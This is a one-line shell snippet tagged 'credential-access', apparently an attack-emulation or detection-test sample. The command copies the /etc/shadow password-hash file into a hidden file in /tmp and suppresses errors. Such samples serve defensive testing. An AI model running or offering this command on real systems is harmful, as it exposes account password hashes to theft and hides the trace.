# tactic: credential-access
dd if=/etc/shadow of=/tmp/.s 2>/dev/null; true
